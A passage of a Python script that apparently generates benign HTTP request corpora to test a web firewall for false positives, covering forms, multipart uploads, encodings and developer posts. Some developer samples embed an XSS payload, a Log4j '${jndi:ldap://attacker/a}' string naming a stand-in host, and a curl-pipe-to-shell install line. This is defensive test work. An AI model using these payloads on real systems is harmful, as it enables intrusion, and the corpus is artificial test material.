    c = Ctx("benign-markdown", "benign", "pass", ["community.example.com", "help.example.org", "app.example.io"])
    r = c.rng
    for i in range(20):
        md = "\n\n".join(r.sample(MARKDOWN, r.randint(1, 3)))
        if r.random() < 0.6:
            c.json("comment", "/api/threads/%d/comments" % r.randint(1, 5000), {"body": md, "format": "markdown"})
        else:
            c.form("post", "/t/%d/reply" % r.randint(1, 5000), form([("raw", md), ("topic_id", str(r.randint(1, 5000)))]))
    return c.items


def b_long():
    c = Ctx("benign-long", "benign", "pass", ["cms.example.org", "api.example.com", "import.example.net"])
    r = c.rng
    for i in range(3):
        art = "\n\n".join(junk_text(r, r.randint(300, 900)).capitalize() + "." for _ in range(r.randint(40, 90)))
        c.json("long-article", "/api/articles", {"title": "Field notes %d" % i, "body": art, "tags": ["travel", "notes"]})
    rows = ["id,name,email,city,amount"]
    for i in range(1500):
        rows.append("%d,%s,%s,%s,%d.%02d" % (i, r.choice(["Anna Smith", "José Pérez", "Li Wei", "O'Hara, Kim", "Zoë Müller"]),
                                             "u%d@example.com" % i, r.choice(["Berlin", "Lyon", "Osaka", "Austin"]),
                                             r.randint(1, 999), r.randint(0, 99)))
    c.mp("csv-import", "/import/customers", [{"name": "file", "filename": "customers.csv", "ctype": "text/csv", "value": "\n".join(rows) + "\n"}])
    evs = [{"e": r.choice(["view", "click", "scroll"]), "t": 1733300000000 + i * 37, "p": "/p/%d" % r.randint(1, 9999)} for i in range(900)]
    c.json("telemetry-batch", "/v1/batch", {"events": evs, "sdk": "web-4.2.0"})
    png = bytes(r.randrange(256) for _ in range(30000))
    c.json("data-uri-image", "/api/avatar", {"image": "data:image/png;base64," + b64(png)}, method="PUT")
    vs = b64(bytes(r.randrange(256) for _ in range(12000)))
    c.form("aspnet-viewstate", "/Account/Profile.aspx", form([("__VIEWSTATE", "/wEP" + vs), ("__VIEWSTATEGENERATOR", "C2EE9ABB"),
                                                              ("__EVENTTARGET", "ctl00$MainContent$btnSave"), ("__EVENTARGUMENT", ""),
                                                              ("ctl00$MainContent$txtName", "Anna O'Hara")]))
    pairs = [("opt_%d" % i, r.choice(["on", "off", "1", "0"])) for i in range(400)]
    c.form("many-fields", "/admin/settings/save", form(pairs))
    c.form("long-textarea", "/feedback", form([("subject", "Long feedback"), ("message", junk_text(r, 40_000))]))
    return c.items


def b_params():
    c = Ctx("benign-params", "benign", "pass", APP_HOSTS + SHOP_HOSTS)
    r = c.rng
    qs = [
        "a[]=1&a[]=2&a[]=3",
        "color[]=red&color[]=navy&size[]=M",
        "tags=summer&tags=sale&tags=linen",
        "filter[status]=open&filter[assignee]=me&sort=-created_at,title",
        "fields[articles]=title,body&include=author,comments.author&page[number]=2&page[size]=25",
        "user[address][city]=Lyon&user[address][zip]=69001&user[name]=Zo%C3%AB",
        "ids=12,15,18,22",
        "a[0]=x&a[1]=y&a[2]=z",
        "filters[title][$containsi]=winter&populate=*&sort[0]=publishedAt:desc&pagination[page]=2",
        "filters[price][$lte]=50&filters[category][slug][$eq]=shoes",
        "filter[status][_eq]=published&fields=*,author.name&limit=20",
        "where[title][equals]=Home&depth=1",
        "$filter=Price%20gt%2010%20and%20Category%20eq%20'Books'&$top=20&$orderby=Name%20asc",
        "q=shoes&q=boots",
        "utm_source=google&utm_medium=cpc&utm_campaign=brand&gclid=" + tok(r, 40),
        "fbclid=" + tok(r, 60),
        "sort=price&order=asc&page=3&per_page=50",
        "range=2024-01-01..2024-03-31&granularity=week",
        "lat=48.8566&lng=2.3522&radius=5km",
        "select=id,name,price&price=gte.10&order=name.asc",
    ]
    for q in qs:
        path = "/odata/Products" if q.startswith("$filter") else r.choice(["/api/products", "/api/articles", "/items", "/search"])
        c.get("framework-params", path, q, api=r.random() < 0.5)
    for i in range(5):
        c.form("rails-nested", "/users/%d" % r.randint(1, 999), "_method=patch&authenticity_token=" + Q(tok(r, 86) + "==")
               + "&user%5Bname%5D=" + QP(r.choice(NAMES)) + "&user%5Bprefs%5D%5B%5D=email&user%5Bprefs%5D%5B%5D=sms&commit=Update+profile")
    for i in range(5):
        c.form("php-array-form", "/checkout.php", "items%5B0%5D%5Bsku%5D=A12&items%5B0%5D%5Bqty%5D=2&items%5B1%5D%5Bsku%5D=B7&items%5B1%5D%5Bqty%5D=1&gift_note="
               + QP(r.choice(["Happy birthday!", "For you :)", "Merry Xmas & happy new year"])))
    return c.items


def b_utf16():
    c = Ctx("benign-utf16", "benign", "pass", ["erp.example.com", "ws.example.net", "api.example.com"])
    r = c.rng
    soap = ('<?xml version="1.0" encoding="utf-16"?>\r\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><SubmitOrder xmlns="http://tempuri.org/">'
            '<customer>%s</customer><amount>%d.%02d</amount><note>%s</note></SubmitOrder></soap:Body></soap:Envelope>')
    for i in range(4):
        x = soap % (r.choice(["Müller GmbH", "O'Brien & Co", "株式会社サンプル", "Société Générale"]), r.randint(10, 5000), r.randint(0, 99),
                    r.choice(["Rush delivery", "Deliver to dock #3", "Call before 10:00"]))
        c.raw("dotnet-soap", "POST", "/Services/OrderService.asmx", [["Content-Type", "text/xml; charset=utf-16"],
              ["SOAPAction", '"http://tempuri.org/SubmitOrder"']], x.encode("utf-16"),
              api=True)
    for i in range(2):
        j = json.dumps({"ComputerName": "DESKTOP-%s" % tok(r, 7).upper(), "User": "CORP\\jdoe", "Message": "Backup finished – 0 errors"})
        c.raw("powershell-json", "POST", "/api/agents/report", [["Content-Type", "application/json; charset=utf-16"]],
              j.encode("utf-16"), api=True)
    for i in range(2):
        tsv = "Name\tDepartment\tCity\r\nZoë Lefèvre\tR&D\tParis\r\n田中 太郎\tSales\t東京\r\n"
        bnd = boundary(r, "webkit")
        body = multipart_bytes([{"name": "sheet", "filename": "export.txt", "ctype": "text/plain",
                                 "value": tsv.encode("utf-16")}], bnd)
        c.raw("excel-unicode-text", "POST", "/import/staff", [["Content-Type", "multipart/form-data; boundary=" + bnd]], body)
    return c.items


def b_protocol():
    c = Ctx("benign-protocol", "benign", "pass", APP_HOSTS + SHOP_HOSTS)
    r = c.rng
    for i in range(5):
        j = json.dumps({"deviceId": hexid(r, 16), "events": [{"type": "open", "ts": 1733300000 + i}]}).encode()
        parts = [j[:len(j) // 2], j[len(j) // 2:]]
        c.raw("chunked-json", "POST", "/api/v1/events", [["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"]],
              chunked(parts), api=True, cl=False)
    for i in range(4):
        c.json("method-override", "/api/v1/tasks/%d" % r.randint(1, 999), {"done": True}, method="POST",
               headers=[["X-HTTP-Method-Override", "PATCH"]])
    for i in range(3):
        c.form("rails-delete", "/comments/%d" % r.randint(1, 9999), "_method=delete&authenticity_token=" + Q(tok(r, 86) + "=="))
    for i in range(5):
        c.json("beacon-text-plain", "/rum", {"t": "lcp", "v": r.randint(500, 4000), "url": "https://shop.example.com/c/shoes?sort=price",
                                             "ua_mobile": r.random() < 0.5}, ctype="text/plain;charset=UTF-8", api=False)
    for i in range(4):
        c.get("jsessionid-path", "/shop/catalog.do;jsessionid=%s" % hexid(r, 32).upper(), "cat=%d" % r.randint(1, 40))
    for i in range(4):
        c.get("forwarded-chain", "/", "", headers=[["X-Forwarded-For", "203.0.113.%d, 198.51.100.%d, 10.0.%d.%d" % (r.randint(1, 254), r.randint(1, 254), r.randint(0, 9), r.randint(1, 254))],
                                                  ["X-Forwarded-Proto", "https"], ["Forwarded", 'for="[2001:db8:cafe::17]:4711";proto=https']])
    for q in ['"o\'reilly" books', "café near me", "c# vs java salary", "50% off shoes"]:
        c.get("referer-search", "/", "", headers=[["Referer", "https://www.google.com/search?q=" + QP(q) + "&oq=" + QP(q) + "&sourceid=chrome&ie=UTF-8"]])
    sj = "name=" + "".join("%%%02X" % b for b in "山田太郎".encode("shift_jis")) + "&addr=" + "".join("%%%02X" % b for b in "東京都新宿区".encode("shift_jis"))
    c.form("shift-jis-form", "/contact.cgi", sj, ctype="application/x-www-form-urlencoded; charset=Shift_JIS")
    wl = "name=" + "".join("%%%02X" % b if b > 127 or chr(b) in " &=+" else chr(b) for b in "Renée Dupré".encode("cp1252"))
    c.form("windows-1252-form", "/contact.asp", wl, ctype="application/x-www-form-urlencoded; charset=windows-1252")
    euc = "q=" + "".join("%%%02X" % b for b in "서울 날씨".encode("euc-kr"))
    c.form("euc-kr-form", "/search.jsp", euc, ctype="application/x-www-form-urlencoded; charset=EUC-KR")
    c.mp("quoted-boundary", "/upload", [{"name": "title", "value": "Holiday"}], bnd="simple boundary",
         ctype='multipart/form-data; boundary="simple boundary"')
    c.mp("okhttp-boundary", "/api/upload", [{"name": "meta", "ctype": "application/json; charset=utf-8", "value": '{"album":"Trip","count":1}'},
                                            {"name": "file", "filename": "note.txt", "ctype": "text/plain", "value": "see you soon"}],
         bnd=boundary(r, "okhttp"), ctype=None, api=True)
    for i in range(3):
        c.get("bearer-jwt", "/api/me", "", api=True, headers=[["Authorization", "Bearer " + jwt(r)]])
    for i in range(2):
        c.get("many-cookies", "/", "", headers=[["Cookie", "; ".join(["_ga=GA1.1.%d.%d" % (r.randint(10**8, 10**9), 1733300000),
                                                                    "_fbp=fb.1.1733300000.%d" % r.randint(10**8, 10**9),
                                                                    "__Host-session=" + tok(r, 43), "cart=%7B%22items%22%3A3%7D",
                                                                    "consent=" + Q('{"ads":false,"stats":true}'), "lang=fr-CA"])]])
    c.get("head-request", "/products/12345", "", method="HEAD")
    c.get("options-preflight", "/api/v1/orders", "", method="OPTIONS", api=True,
          headers=[["Origin", "https://app.example.io"], ["Access-Control-Request-Method", "PUT"], ["Access-Control-Request-Headers", "content-type,authorization"]])
    return c.items


def b_templates():
    c = Ctx("benign-templates", "benign", "pass", ["mail.example.com", "crm.example.io"])
    r = c.rng
    tmpls = ["Hi {{first_name}}, your order {{order_id}} is on its way!", "Dear *|FNAME|*, thanks for subscribing.",
             "Hello %%FirstName%%, your appointment is on %%Date%%.", "Hi {first_name}, we miss you!",
             "Bonjour {{ contact.first_name }}, votre facture est prête.", "{{#if vip}}Thanks for being a VIP!{{/if}}",
             "Hi [[name]], reset your password here: [[link]]", "Hey ${firstName}, your code is ${otp}.",
             "Hello {{ customer.name | default: 'there' }}!", "Reminder: {{event.title}} starts at {{event.start_time}}."]
    for t in tmpls:
        c.json("merge-tags", "/api/campaigns/%d/template" % r.randint(1, 400), {"subject": "Hello", "body": t}, method="PUT")
    return c.items


def b_textarea():
    c = Ctx("benign-textarea", "benign", "pass", SHOP_HOSTS + APP_HOSTS)
    r = c.rng
    texts = ["Hello,\r\nI'd like to return item #4411.\r\nThanks,\r\nAnna",
             "Flat 3/B\r\n12 Rue de la Paix\r\n75002 Paris\r\nFrance",
             "Apt #12, 450 5th Ave.\r\nNew York, NY 10018",
             "Dear team,\r\n\r\nThe package arrived damaged (box crushed).\r\nPhotos attached.\r\n\r\nBest regards,\r\nD'Souza",
             "Please leave at the back door -- dog is friendly :)",
             "Order: 2x latte, 1x croissant\r\nPickup: 8:15",
             "Line 1\nLine 2\nLine 3",
             "c/o Müller\r\nPostfach 12 34\r\n10115 Berlin",
             "Delivery instructions:\r\n1) ring twice\r\n2) 3rd floor, door on the left",
             "Hi! Can you ship to P.O. Box 77?\r\n-- sent from my phone"]
    for t in texts + r.sample(texts, 5):
        c.form("multiline", r.choice(["/contact", "/checkout/address", "/support/new"]),
               form([("name", r.choice(NAMES)), ("email", "me%d@example.org" % r.randint(1, 99)), ("message", t)]))
    return c.items


def b_webhooks():
    c = Ctx("benign-webhooks", "benign", "pass", ["app.example.io", "api.example.com"])
    r = c.rng
    urls = ["https://hooks.slack.com/services/T0000/B0000/" + tok(r, 24), "https://discord.com/api/webhooks/1234567890/" + tok(r, 40),
            "https://example.com:8443/callback?source=shop", "https://api.partner.example.net/v2/notify",
            "https://hooks.zapier.com/hooks/catch/123456/abcdef/", "https://webhook.site/" + hexid(r, 8) + "-" + hexid(r, 4),
            "https://outlook.office.com/webhook/" + hexid(r, 8), "https://cdn.example.org/images/banner.png",
            "https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg", "https://www.example.com/feed.xml"]
    for u in urls:
        if u.endswith((".png", ".jpg")):
            c.get("image-import", "/api/images/import", "url=" + Q(u), api=True)
        else:
            c.json("webhook", "/api/webhooks", {"url": u, "events": r.sample(["order.created", "order.paid", "refund"], 2), "active": True})
    for u in ["https://www.example.com/feed.xml", "https://blog.example.org/rss", "https://news.example.net/atom.xml",
              "https://podcasts.example.com/show/feed", "http://legacy.example.com:8080/rss.php?cat=2"]:
        c.form("feed-subscribe", "/reader/subscribe", form([("feed_url", u), ("folder", "News")]))
    return c.items


def b_directory():
    c = Ctx("benign-directory", "benign", "pass", ["intranet.example.co", "directory.example.com"])
    r = c.rng
    for q in ["Sm*", "R&D (Research)", "O'Neil*", "(555) 123-4567", "Müller, Hans", "Sales - EMEA", "j.doe@example.com",
              "Building 4 / Floor 2", "Dr. Ana María López-Hernández", "IT Support (Tier 1)"]:
        c.get("people-search", "/people/search", "q=" + Q(q) + "&scope=all")
    return c.items


BENIGN_GENERATORS = [b_redirects, b_files, b_i18n, b_json_escapes, b_emoji, b_products, b_math, b_quotes,
                     b_richtext, b_markdown, b_long, b_params, b_utf16, b_protocol, b_templates, b_textarea,
                     b_webhooks, b_directory]


def b_devcontent():
    """Developers' legitimate content: code and commands in posts, issues, docs."""
    c = Ctx("benign-devcontent", "dev-content", "pass", ["forum.example.dev", "git.example.com", "docs.example.io", "wiki.example.org"])
    r = c.rng
    posts = [
        "How do I speed up this query?\n\n```sql\nSELECT u.id, u.email, COUNT(o.id) FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.created_at > '2024-01-01' GROUP BY u.id ORDER BY 3 DESC LIMIT 50;\n```",
        "Why does `UNION` remove duplicates but `UNION ALL` doesn't?\n\n```sql\nSELECT name FROM a UNION SELECT name FROM b;\n```",
        "To reset the sequence run:\n\n```sql\nALTER SEQUENCE users_id_seq RESTART WITH 1;\nDROP TABLE IF EXISTS tmp_import;\n```",
        "Install with:\n\n```bash\ncurl -fsSL https://get.example.dev/install.sh | sh\n```\nthen `source ~/.bashrc`.",
        "My loop fails on filenames with spaces:\n\n```bash\nfor f in $(ls *.txt); do cat \"$f\" | wc -l; done\n```\nUse `while IFS= read -r f` instead.",
        "Quick one-liner: `find . -name '*.log' -mtime +7 -exec rm {} \\;`",
        "The inline handler never fires:\n\n```html\n<button onclick=\"alert('saved')\">Save</button>\n<script src=\"/js/app.js\"></script>\n```",
        "XSS question: is `element.innerHTML = '<img src=x onerror=alert(1)>'` dangerous if the string comes from the user? (yes — use textContent)",
        "PHP snippet from the docs:\n\n```php\n<?php\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$_POST['email']]);\n```",
        "Jinja loop:\n\n```jinja\n{% for item in items %}<li>{{ item.name | e }}</li>{% endfor %}\n```",
        "Our Log4j advisory: attackers send strings like `${jndi:ldap://attacker/a}` in headers. Upgrade to 2.17.1 and set `log4j2.formatMsgNoLookups=true`.",
        "Dockerfile:\n\n```dockerfile\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nCMD [\"gunicorn\", \"app:app\"]\n```",
        "Paths are relative, so `../config/settings.yaml` resolves from `src/`. Avoid `../../etc` style paths in tests.",
        "Python: `subprocess.run(['ls', '-la', '/tmp'], check=True)` is safer than `os.system('ls -la /tmp')`.",
        "XML sample with a DTD:\n\n```xml\n<?xml version=\"1.0\"?>\n<!DOCTYPE note SYSTEM \"note.dtd\">\n<note><to>Tove</to></note>\n```",
        "Mongo filter that works: `db.orders.find({ total: { $gt: 100 }, status: { $in: ['paid', 'shipped'] } })`",
        "LDAP filter syntax: `(&(objectClass=user)(|(cn=John*)(mail=*@example.com)))`",
        "Kubernetes:\n\n```yaml\napiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: web\n    image: nginx:1.25\n    command: [\"/bin/sh\", \"-c\", \"echo hello && sleep 3600\"]\n```",
        "Template literal gotcha: `const msg = `Hello ${user.name}`;` — escape it in HTML output.",
        "Windows: `powershell -ExecutionPolicy Bypass -File .\\build.ps1` then `type build.log`.",
        "Spring: `@Value(\"#{systemProperties['user.home']}\")` injects the home dir.",
        "Regex to match paths: `^(/[\\w.-]+)+/?$` — note `..` is allowed.",
        "Git tip: `git log --oneline v1.2...v1.3 -- src/` and `git diff HEAD~1`.",
        "Serializing in PHP gives `O:8:\"stdClass\":1:{s:4:\"name\";s:3:\"Bob\";}` — don't unserialize() user input!",
        "Nginx: `location ~ \\.php$ { fastcgi_pass unix:/run/php/php8.2-fpm.sock; include fastcgi_params; }`",
    ]
    for p in posts:
        k = r.random()
        if k < 0.45:
            c.json("forum-post", "/api/topics/%d/posts" % r.randint(1, 90000), {"raw": p, "topic_id": r.randint(1, 90000)}, api=False)
        elif k < 0.8:
            c.json("issue-comment", "/api/v4/projects/%d/issues/%d/notes" % (r.randint(1, 900), r.randint(1, 5000)), {"body": p})
        else:
            c.form("wiki-edit", "/wiki/edit", form([("page", "Runbook"), ("content", p), ("summary", "update")]))
    gists = [("query.sql", "-- monthly revenue\nSELECT date_trunc('month', paid_at) m, SUM(amount) FROM payments GROUP BY 1 ORDER BY 1;\n"),
             ("deploy.sh", "#!/bin/bash\nset -euo pipefail\nssh deploy@web1 'cd /srv/app && git pull && systemctl restart app'\n"),
             ("index.html", "<!DOCTYPE html>\n<html><head><script>window.dataLayer=[];</script></head><body onload=\"init()\"></body></html>\n"),
             ("app.py", "import os\nfrom flask import Flask, render_template_string\napp = Flask(__name__)\n@app.route('/')\ndef i():\n    return render_template_string('{{ 7*7 }}')\n"),
             ("Main.java", "public class Main { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(new String[]{\"ls\",\"-l\"}); } }\n")]
    for fn, content in gists:
        c.json("gist", "/api/gists", {"description": "snippet", "public": False, "files": {fn: {"content": content}}})
    for q in ["select distinct vs group by", "bash ${var:-default}", "php include vs require", "<script defer> vs async",
              "rm -rf node_modules", "python eval vs exec", "../ relative import", "docker run --privileged", "log4j ${jndi} explained",
              "union all performance"]:
        c.get("doc-search", "/search", "q=" + Q(q) + "&site=docs")
    return c.items


# ==========================================================================

def build(which):
    COUNTERS.clear()
    if which == "attacks":
        items = [x for g in ATTACK_GENERATORS for x in g()]
    else:
        items = [x for g in BENIGN_GENERATORS for x in g()] + b_devcontent()
    ids = [x["id"] for x in items]
    assert len(ids) == len(set(ids)), "duplicate ids"
    for x in items:
        if "body" in x:
            cl = [v for k, v in x["headers"] if k.lower() == "content-length"]
            assert cl and int(cl[0]) == len(x["body"].encode("utf-8")), x["id"]
        if "raw_b64" not in x:
            assert x["headers"][0][0] == "Host", x["id"]
    return items


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write("usage: corpus-bypass.py attacks|benign|stats\n")
        return 2
    if argv[1] == "stats":
        for which in ("attacks", "benign"):
            items = build(which)
            per = {}
            for x in items:
                key = x["category"] if which == "attacks" else x["id"].split("/")[1]
                per[key] = per.get(key, 0) + 1
            size = sum(len(json.dumps(x, ensure_ascii=False).encode("utf-8")) + 1 for x in items)
            sys.stderr.write("%s: %d requests, %.2f MB\n" % (which, len(items), size / 1e6))
            for k, v in sorted(per.items(), key=lambda kv: (-kv[1], kv[0])):
                sys.stderr.write("  %-12s %4d\n" % (k, v))
        return 0
    out = sys.stdout
    for x in build(argv[1]):
        out.write(json.dumps(x, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
